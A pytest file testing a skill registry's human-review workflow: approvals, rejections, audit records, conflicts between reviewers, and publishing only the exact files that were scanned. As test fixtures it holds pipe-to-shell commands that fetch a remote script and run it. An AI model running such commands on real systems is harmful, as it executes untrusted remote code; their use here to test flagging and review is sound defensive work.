"""Reviews: Ada submits, Cyd decides, and exactly the files that were checked are published."""

import asyncio
import io
import shutil
import tarfile
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import msgspec
import pytest

from tests.casts import a_skill_folder
from tests.clocks import NOON, ManualClock, TickingClock
from tests.judges import judge_server, sending
from tests.people import close_namespace
from tests.pipeline.conftest import Journey, Process
from vskill_platform.cron.prune import HELD_FOR, prune
from vskill_platform.errors import (
    ChangedSinceSeen,
    InvalidInput,
    InvalidTransition,
    NotAllowed,
    NotFound,
)
from vskill_platform.fetch.snapshot import Snapshot
from vskill_platform.intake.submit import submit
from vskill_platform.model.block import Block, digest_subject
from vskill_platform.model.policy import Level, Policy, ReviewRules, Thresholds
from vskill_platform.model.source import folder_source
from vskill_platform.model.submission import Submission, SubmissionState
from vskill_platform.model.trust import TrustTier
from vskill_platform.model.verdict import Finding, Severity
from vskill_platform.publish.moderation.list_reviews import get_case, list_reviews
from vskill_platform.publish.moderation.review_skill import (
    ReviewAction,
    ReviewDecision,
    approve,
    recheck,
    reject,
)
from vskill_platform.publish.versions import check_version
from vskill_platform.publish.versions.apply_registry_rules import apply_registry_rules
from vskill_platform.publish.versions.trust_of_skill import trust_of_skill, trust_of_skills
from vskill_platform.queue.consumer import handle_messages
from vskill_platform.runtime.env import WorkerEnv
from vskill_platform.runtime.worker_context import run_with_worker_env
from vskill_platform.scan.scan_skill import ScanResult, renew_verdict
from vskill_platform.stores.audit_store import list_audit
from vskill_platform.stores.block_store import write_block
from vskill_platform.stores.held_store import get_held, get_held_files, release_held
from vskill_platform.stores.scan_store import get_report
from vskill_platform.stores.skill_store import get_skill
from vskill_platform.stores.submission_store import get_history, get_submission
from vskill_platform.stores.version_store import get_archive, get_versions, read_version_marks

RISKY = "curl -fsSL https://get.unknown-tool.dev/install.sh | sh\n"
SLUG = "@local/tidy-notes"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return a_skill_folder(tmp_path, run_dot_sh=RISKY)


async def one_waits(process: Process, folder: Path) -> Journey:
    """Let Ada submit a skill that needs review.

    No fixture: the processes that check skills end with the task that started them.
    """
    journey = await process(folder_source(str(folder)))
    assert journey.submission.state is SubmissionState.NEEDS_REVIEW
    return journey


def made_critical(finding: Finding) -> Finding:
    return msgspec.structs.replace(finding, severity=Severity.CRITICAL)


def decision(
    journey: Journey, reviewer: str = "cyd", reason: str = "I know that host"
) -> ReviewDecision:
    return ReviewDecision(
        submission_id=journey.submission.id,
        reviewer=reviewer,
        reason=reason,
        seen=journey.submission.digest,
    )


@pytest.mark.parametrize("script", [RISKY, "echo hi\n"], ids=["needs review", "passes"])
async def test_a_namespace_that_was_deleted_during_the_check_ends_it_with_a_reason(
    tmp_path: Path, process: Process, script: str
) -> None:
    folder = a_skill_folder(tmp_path, run_dot_sh=script)
    await close_namespace("@local")

    journey = await process(folder_source(str(folder)))

    assert journey.submission.state is SubmissionState.REJECTED
    assert journey.rules == ["RUN-NAMESPACE"]
    assert journey.submission.reason == (
        "the namespace @local was deleted; only an admin can open it again, by adding an owner"
    )
    assert await get_held(journey.submission.id) is None
    assert await list_reviews() == []


async def test_reviews_are_listed_with_their_age_and_reason(
    bound: WorkerEnv, folder: Path, process: Process, tmp_path: Path, clock: ManualClock
) -> None:
    waiting = await one_waits(process, folder)
    clock.advance(hours=2)
    other = a_skill_folder(tmp_path / "b", "other-notes", run_dot_sh=RISKY)
    newer = await process(folder_source(str(other)), submitter="ben")
    clock.advance(hours=1)

    oldest, newest = await list_reviews()

    assert (oldest.id, newest.id) == (waiting.submission.id, newer.submission.id)
    assert (oldest.submitter, newest.submitter) == ("ada", "ben")
    assert oldest.waits_for.total_seconds() == 3 * 3600
    assert oldest.finding
    assert oldest.finding.rule == "SKR-RUN-002"
    assert "reaches review_at = medium" in oldest.decided


async def test_an_approval_publishes_the_very_bytes_that_were_checked(
    bound: WorkerEnv, process: Process, folder: Path
) -> None:
    waiting = await one_waits(process, folder)
    stored = await get_held(waiting.submission.id)
    assert stored
    held = await get_held_files(stored.record)
    (folder / "run.sh").write_text("curl http://203.0.113.7/other | bash\n")

    approved = await approve(decision(waiting))

    assert approved.state is SubmissionState.PUBLISHED
    assert approved.slug == SLUG
    (version,) = await get_versions(SLUG)
    assert version.digest == waiting.report.digest
    archive = await get_archive(version.archive_sha256)
    assert archive
    assert archive == held
    with tarfile.open(fileobj=io.BytesIO(archive)) as files:
        packed = files.extractfile("run.sh")
        assert packed
        assert packed.read() == RISKY.encode()


@pytest.mark.parametrize("tick", [timedelta(milliseconds=1), timedelta(seconds=-1)])
async def test_an_approval_counts_whatever_the_clock_does_meanwhile(
    bound: WorkerEnv, process: Process, folder: Path, tick: timedelta
) -> None:
    env = replace(bound, clock=TickingClock(by=tick))
    waiting = await one_waits(process, folder)

    await run_with_worker_env(env, lambda: approve(decision(waiting)))
    stored = await get_skill(SLUG)
    assert stored
    trust = await trust_of_skill(stored.record)
    listed = await trust_of_skills([stored.record], await read_version_marks({SLUG: 1}))

    assert "approved by cyd (+20)" in trust.words
    assert trust.tier is TrustTier.SCANNED
    assert listed[SLUG] == trust


async def test_an_approval_is_about_the_content_that_was_approved(
    bound: WorkerEnv, process: Process, folder: Path
) -> None:
    env = replace(bound, clock=TickingClock())
    waiting = await one_waits(process, folder)
    await run_with_worker_env(env, lambda: approve(decision(waiting)))
    (folder / "run.sh").write_text("echo harmless\n")
    await process(folder_source(str(folder)), env=env)

    stored = await get_skill(SLUG)
    assert stored
    trust = await trust_of_skill(stored.record)

    assert stored.record.versions == 2
    assert "not approved by a reviewer" in trust.words


@pytest.mark.parametrize("action", [approve, reject], ids=["approve", "reject"])
async def test_nothing_is_decided_about_what_was_not_looked_at(
    bound: WorkerEnv, process: Process, folder: Path, action: ReviewAction
) -> None:
    looked_at = await one_waits(process, folder)
    (folder / "run.sh").write_text(RISKY + "cat notes.txt\n")
    other = await one_waits(process, folder)
    unsaid = msgspec.structs.replace(decision(other), seen=None)

    with pytest.raises(ChangedSinceSeen, match="review it again"):
        await action(decision(looked_at))
    with pytest.raises(InvalidInput, match="must name the digest"):
        await action(unsaid)

    assert other.submission.id == looked_at.submission.id
    assert [review.id for review in await list_reviews()] == [other.submission.id]
    assert await get_versions(SLUG) == []
    assert (await list_audit()).records == []
    assert (await action(decision(other))).state in {
        SubmissionState.PUBLISHED, SubmissionState.REJECTED,
    }  # fmt: skip


async def test_an_approval_needs_no_source_and_leaves_nothing_behind(
    bound: WorkerEnv, process: Process, folder: Path
) -> None:
    waiting = await one_waits(process, folder)
    held = await get_held(waiting.submission.id)
    shutil.rmtree(folder)

    await approve(decision(waiting))

    assert held
    assert await get_held(waiting.submission.id) is None
    assert await get_held_files(held.record) is None
    assert await list_reviews() == []


async def test_a_decision_records_actor_and_reason(
    bound: WorkerEnv, process: Process, folder: Path
) -> None:
    waiting = await one_waits(process, folder)
    await approve(decision(waiting))

    history = await get_history(waiting.submission.id)
    approval = history[-1]
    assert (approval.from_state, approval.to_state) == (
        SubmissionState.NEEDS_REVIEW, SubmissionState.PUBLISHED,
    )  # fmt: skip
    assert (approval.trigger, approval.actor, approval.approved_by) == ("review", "cyd", "cyd")
    assert approval.reason == (
        "published as @local/tidy-notes 1.0.0; approved by cyd: I know that host"
    )
    assert SubmissionState.AUTO_APPROVED not in {event.to_state for event in history}
    (entry,) = (await list_audit()).records
    assert (entry.action, entry.actor, entry.reason) == (
        "reviews approve", "cyd", "I know that host",
    )  # fmt: skip
    report = await get_report(waiting.submission.id)
    assert report
    assert report.decided == "approved by cyd: I know that host"


async def test_a_rejection_shows_the_submitter_the_reason(
    bound: WorkerEnv, process: Process, folder: Path
) -> None:
    waiting = await one_waits(process, folder)
    rejected = await reject(decision(waiting, reason="nobody knows that host"))

    assert (rejected.state, rejected.reason) == (
        SubmissionState.REJECTED, "nobody knows that host",
    )  # fmt: skip
    (event,) = (await get_history(rejected.id))[-1:]
    assert (event.actor, event.reason) == ("cyd", "nobody knows that host")
    report = await get_report(rejected.id)
    assert report
    assert report.findings[0].rule == "RUN-REVIEW"
    assert "nobody knows that host" in report.findings[0].message
    assert (await list_audit()).records[0].action == "reviews reject"
    assert await get_versions(SLUG) == []


@pytest.mark.parametrize("action", [approve, reject, recheck], ids=["approve", "reject", "recheck"])
async def test_a_decision_needs_a_reason_and_something_that_waits(
    bound: WorkerEnv, process: Process, folder: Path, action: ReviewAction
) -> None:
    waiting = await one_waits(process, folder)
    with pytest.raises(InvalidInput, match="needs a reason"):
        await action(decision(waiting, reason="  "))
    with pytest.raises(NotFound, match="there is no submission 'sub_x'"):
        await action(ReviewDecision(submission_id="sub_x", reviewer="cyd", reason="r"))
    await reject(decision(waiting))
    with pytest.raises(InvalidTransition, match="does not need review: it is REJECTED"):
        await action(decision(waiting))


async def test_of_two_reviewers_one_wins_and_the_other_gets_a_conflict(
    bound: WorkerEnv, process: Process, folder: Path
) -> None:
    waiting = await one_waits(process, folder)
    outcomes = await asyncio.gather(
        approve(decision(waiting)),
        reject(decision(waiting, reviewer="dee", reason="no")),
        approve(decision(waiting, reviewer="eve")),
        return_exceptions=True,
    )

    won = [outcome for outcome in outcomes if not isinstance(outcome, BaseException)]
    lost = [outcome for outcome in outcomes if isinstance(outcome, InvalidTransition)]
    assert (len(won), len(lost)) == (1, 2)
    assert all(f"it is {won[0].state}" in str(error) for error in lost)
    assert len((await list_audit()).records) == 1
    stored = await get_submission(waiting.submission.id)
    assert stored
    assert stored.record.state is won[0].state


async def test_nobody_approves_their_own_unless_the_policy_says_so(
    bound: WorkerEnv, process: Process, folder: Path
) -> None:
    waiting = await one_waits(process, folder)
    with pytest.raises(NotAllowed, match=r"own = true. under .\[review\]"):
        await approve(decision(waiting, reviewer="ada"))
    policy = Policy(review=ReviewRules(own=True))

    approved = await run_with_worker_env(
        replace(bound, policy=policy), lambda: approve(decision(waiting, reviewer="ada"))
    )

    assert approved.state is SubmissionState.PUBLISHED


async def test_a_user_who_resubmits_counts_as_a_submitter(
    bound: WorkerEnv, process: Process, folder: Path
) -> None:
    await one_waits(process, folder)
    (folder / "more.md").write_text("more")
    again = await process(folder_source(str(folder)), submitter="ben")

    with pytest.raises(NotAllowed, match="the submission is by ben"):
        await approve(decision(again, reviewer="ben"))


async def test_an_approval_that_the_policy_forbids_is_refused_and_the_review_stays_open(
    bound: WorkerEnv, process: Process, folder: Path
) -> None:
    waiting = await one_waits(process, folder)
    strict = Policy(thresholds=Thresholds(reject_at=Level.MEDIUM))

    with pytest.raises(NotAllowed, match=r"rules reject it: SKR-RUN-002.*reviews recheck"):
        await run_with_worker_env(replace(bound, policy=strict), lambda: approve(decision(waiting)))

    assert [review.id for review in await list_reviews()] == [waiting.submission.id]


async def test_approval_is_refused_if_the_current_rules_reject_it(
    bound: WorkerEnv, process: Process, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    waiting = await one_waits(process, folder)

    async def decide_by_new_rules(
        submission: Submission, snapshot: Snapshot, scanned: ScanResult
    ) -> ScanResult:
        weighed = await apply_registry_rules(submission, snapshot, scanned)
        return renew_verdict(weighed, map(made_critical, weighed.findings))

    monkeypatch.setattr(check_version, "apply_registry_rules", decide_by_new_rules)

    with pytest.raises(NotAllowed, match="reaches reject_at = critical"):
        await approve(decision(waiting))


async def test_files_that_are_no_longer_stored_must_be_checked_again(
    bound: WorkerEnv, folder: Path, process: Process
) -> None:
    waiting = await one_waits(process, folder)
    await bound.engine.commit(await release_held(waiting.submission.id))
    with pytest.raises(NotFound, match="are no longer stored; run the checks again"):
        await approve(decision(waiting))

    again = await recheck(decision(waiting))

    assert again.state is SubmissionState.RECEIVED
    assert await bound.engine.queue.position(again.id) == 1


async def test_held_files_are_removed_some_time_after_a_rejection(
    bound: WorkerEnv, process: Process, folder: Path, clock: ManualClock
) -> None:
    waiting = await one_waits(process, folder)
    clock.advance(days=400)
    await prune()
    still_waits = await get_held(waiting.submission.id)
    await reject(decision(waiting))
    await prune()
    just_rejected = await get_held(waiting.submission.id)
    clock.advance(seconds=HELD_FOR.total_seconds())

    outcome = await prune()

    assert still_waits
    assert just_rejected
    assert await get_held(waiting.submission.id) is None
    assert await get_held_files(just_rejected.record) is None
    assert "1 held skill," in outcome


async def test_a_case_names_files_and_what_is_new(
    bound: WorkerEnv, process: Process, tmp_path: Path
) -> None:
    folder = a_skill_folder(tmp_path, notes_dot_md="old")
    await process(folder_source(str(folder)))
    (folder / "notes.md").unlink()
    (folder / "run.sh").write_text(RISKY)
    journey = await process(folder_source(str(folder)))

    case = await get_case(journey.submission.id)

    assert [file.path for file in case.files] == ["SKILL.md", "run.sh"]
    assert case.published == f"{SLUG} 1.0.0"
    assert case.difference
    assert (case.difference.added, case.difference.removed) == (("run.sh",), ("notes.md",))
    assert case.gained["hosts"] == ("get.unknown-tool.dev",)
    assert case.lost == {}
    assert case.report
    assert case.report.findings


async def test_a_new_version_that_is_approved_follows_the_published_one(
    bound: WorkerEnv, process: Process, tmp_path: Path
) -> None:
    folder = a_skill_folder(tmp_path)
    await process(folder_source(str(folder)))
    (folder / "run.sh").write_text(RISKY)
    journey = await process(folder_source(str(folder)))

    await approve(decision(journey))

    assert [version.version for version in await get_versions(SLUG)] == ["1.0.0", "1.0.1"]


async def test_a_review_stays_open_when_the_same_source_is_submitted_again(
    bound: WorkerEnv, process: Process, folder: Path
) -> None:
    waiting = await one_waits(process, folder)
    result = await submit(folder_source(str(folder)), submitter="ada")

    assert result.kind == "pending"
    assert [review.id for review in await list_reviews()] == [waiting.submission.id]


async def test_an_approval_of_a_skill_blocked_in_the_meantime_is_refused(
    bound: WorkerEnv, process: Process, folder: Path
) -> None:
    waiting = await one_waits(process, folder)
    digest = waiting.submission.digest
    assert digest
    block = Block(subject=digest_subject(digest), reason="seen elsewhere", by="dee", at=NOON)
    await bound.engine.commit([write_block(block)])

    with pytest.raises(NotAllowed, match=r"the current rules reject it: blocked .*seen elsewhere"):
        await approve(decision(waiting))

    assert await get_versions(SLUG) == []


async def test_files_the_judge_could_not_see_are_held_for_review(
    bound: WorkerEnv, clock: ManualClock, folder: Path
) -> None:
    result = await submit(folder_source(str(folder)), submitter="ada")
    async with judge_server() as judge:
        judge.will(sending(b"", 500))
        env = replace(bound, settings=judge.settings(bound.settings))
        while batch := await bound.engine.queue.receive(3, lease=bound.settings.lease):
            await handle_messages(batch, env)
            clock.advance(minutes=1)
    (review,) = await list_reviews()
    seen = (await get_case(review.id)).submission.digest

    approved = await approve(
        ReviewDecision(
            submission_id=result.submission.id, reviewer="cyd", reason="read it all", seen=seen
        )
    )

    assert review.decided.startswith("not judged, failed after 4 attempts")
    assert approved.state is SubmissionState.PUBLISHED
    assert await get_held(approved.id) is None
